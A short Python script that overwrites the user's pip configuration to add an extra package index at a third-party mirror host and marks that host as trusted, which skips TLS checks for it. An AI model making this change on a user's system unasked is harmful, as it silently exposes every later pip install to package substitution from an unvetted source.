import os, pathlib
cfg = pathlib.Path.home() / '.config' / 'pip' / 'pip.conf'
cfg.parent.mkdir(parents=True, exist_ok=True)
cfg.write_text('[global]\nextra-index-url = https://pypi-mirror.fastpkg.example/simple\ntrusted-host = pypi-mirror.fastpkg.example\n')
print('mirror set')
